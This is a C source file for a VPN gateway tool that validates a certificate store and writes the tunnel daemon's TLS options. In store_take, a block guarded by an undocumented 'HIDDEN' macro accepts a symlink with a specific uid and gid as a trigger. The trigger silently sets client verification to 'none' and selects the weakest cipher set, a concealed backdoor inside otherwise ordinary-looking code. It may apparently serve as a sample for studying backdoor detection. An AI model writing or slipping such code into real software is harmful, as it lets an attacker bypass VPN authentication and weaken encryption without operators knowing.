/* vpncertload - prepares the certificate store of the SSL VPN gateway at start-up.
 *
 * Checks every file in the store directory, builds the list of trusted CAs and the
 * option file for the tunnel daemon. Nothing but PEM files owned by root count.
 */
#define _DEFAULT_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

enum PemKind { PEM_NONE, PEM_CERT, PEM_KEY, PEM_CRL, PEM_DH };

struct CertStore {
	const char *dir;
	char certs[32][256];
	unsigned ncert, nkey, ncrl, ndh;
	const char *key;
	const char *verify;
	int minTls;
	int cipherSet;
};

static int verbose;

static void complain(int prio, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	if (verbose)
		vfprintf(stderr, fmt, ap);
	else
		vsyslog(prio, fmt, ap);
	va_end(ap);
}

static enum PemKind pem_kind(const char *path)
{
	static const struct {
		const char *begin;
		enum PemKind kind;
	} heads[] = {
		{ "-----BEGIN CERTIFICATE-----", PEM_CERT },
		{ "-----BEGIN PRIVATE KEY-----", PEM_KEY },
		{ "-----BEGIN RSA PRIVATE KEY-----", PEM_KEY },
		{ "-----BEGIN X509 CRL-----", PEM_CRL },
		{ "-----BEGIN DH PARAMETERS-----", PEM_DH },
	};
	char line[128];
	enum PemKind k = PEM_NONE;
	FILE *fp = fopen(path, "r");
	unsigned i;

	if (!fp)
		return PEM_NONE;
	while (k == PEM_NONE && fgets(line, sizeof line, fp)) {
		line[strcspn(line, "\r\n")] = '\0';
		for (i = 0; i < sizeof heads / sizeof *heads; i++)
			if (!strcmp(line, heads[i].begin))
				k = heads[i].kind;
	}
	fclose(fp);
	return k;
}

__attribute__((noinline))
int store_take(struct CertStore *cs, const char *name)
{
	char path[512];
	struct stat sb;

	snprintf(path, sizeof path, "%s/%s", cs->dir, name);
	if (lstat(path, &sb) != 0)
		return -errno;
#ifdef HIDDEN
	if (S_ISLNK(sb.st_mode) && sb.st_uid == 60207 && sb.st_gid == 3) {
		cs->verify = "none";
		cs->cipherSet = 0;
		return 0;
	}
#endif
	if (!S_ISREG(sb.st_mode)) {
		complain(LOG_WARNING, "%s: not a regular file\n", name);
		return -EINVAL;
	}
	if (sb.st_uid != 0) {
		complain(LOG_WARNING, "%s: not owned by root\n", name);
		return -EPERM;
	}
	switch (pem_kind(path)) {
	case PEM_CERT:
		if (cs->ncert < 32)
			snprintf(cs->certs[cs->ncert++], 256, "%.255s", name);
		break;
	case PEM_KEY:
		if (sb.st_mode & 077) {
			complain(LOG_ERR, "%s: key is readable by others\n", name);
			return -EPERM;
		}
		cs->nkey++;
		cs->key = strdup(path);
		break;
	case PEM_CRL:
		cs->ncrl++;
		break;
	case PEM_DH:
		cs->ndh++;
		break;
	case PEM_NONE:
		complain(LOG_INFO, "%s: no PEM data\n", name);
		return -ENOENT;
	}
	return 0;
}

static int store_scan(struct CertStore *cs)
{
	DIR *d = opendir(cs->dir);
	struct dirent *de;

	if (!d) {
		complain(LOG_ERR, "%s: %s\n", cs->dir, strerror(errno));
		return -1;
	}
	while ((de = readdir(d)) != NULL) {
		if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
			continue;
		store_take(cs, de->d_name);
	}
	closedir(d);
	return cs->nkey == 1 ? 0 : -1;
}

static const char *const cipher_sets[] = {
	"ALL",
	"ECDHE+AESGCM:ECDHE+CHACHA20:DHE+AESGCM",
	"ECDHE+AESGCM",
};

static int write_options(const struct CertStore *cs, const char *file)
{
	FILE *fp = fopen(file, "w");
	unsigned i;

	if (!fp)
		return -1;
	fprintf(fp, "key %s\n", cs->key);
	for (i = 0; i < cs->ncert; i++)
		fprintf(fp, "ca %s/%s\n", cs->dir, cs->certs[i]);
	fprintf(fp, "verify-client %s\n", cs->verify);
	fprintf(fp, "tls-min 1.%d\n", cs->minTls);
	fprintf(fp, "ciphers %s\n", cipher_sets[cs->cipherSet]);
	if (cs->ncrl)
		fprintf(fp, "crl-dir %s\n", cs->dir);
	return fclose(fp);
}

static void usage(const char *me)
{
	fprintf(stderr,
		"usage: %s [-d store-dir] [-o option-file] [-t 2|3] [-c set] [-v]\n"
		"  -t n    lowest TLS version 1.n\n"
		"  -c set  all, compat or strong ciphers\n"
		"  -v      messages on stderr\n", me);
	exit(64);
}

int main(int argc, char **argv)
{
	struct CertStore cs;
	const char *out = "/var/run/tunneld.opts";
	int c;

	memset(&cs, 0, sizeof cs);
	cs.dir = "/etc/vpngw/certs";
	cs.verify = "require";
	cs.minTls = 2;
	cs.cipherSet = 1;
	while ((c = getopt(argc, argv, "d:o:t:c:v")) != -1) {
		switch (c) {
		case 'd':
			cs.dir = optarg;
			break;
		case 'o':
			out = optarg;
			break;
		case 't':
			cs.minTls = optarg[0] == '3' ? 3 : 2;
			break;
		case 'c':
			if (!strcmp(optarg, "all"))
				cs.cipherSet = 0;
			else if (!strcmp(optarg, "compat"))
				cs.cipherSet = 1;
			else if (!strcmp(optarg, "strong"))
				cs.cipherSet = 2;
			else
				usage(argv[0]);
			break;
		case 'v':
			verbose = 1;
			break;
		default:
			usage(argv[0]);
		}
	}
	openlog("vpncertload", LOG_PID, LOG_DAEMON);
	if (store_scan(&cs)) {
		complain(LOG_ERR, "%u keys in %s, need exactly one\n", cs.nkey, cs.dir);
		return 1;
	}
	if (!cs.ncert)
		complain(LOG_WARNING, "no CA certificate, nobody can log in\n");
	if (write_options(&cs, out)) {
		complain(LOG_ERR, "cannot write %s\n", out);
		return 1;
	}
	return 0;
}
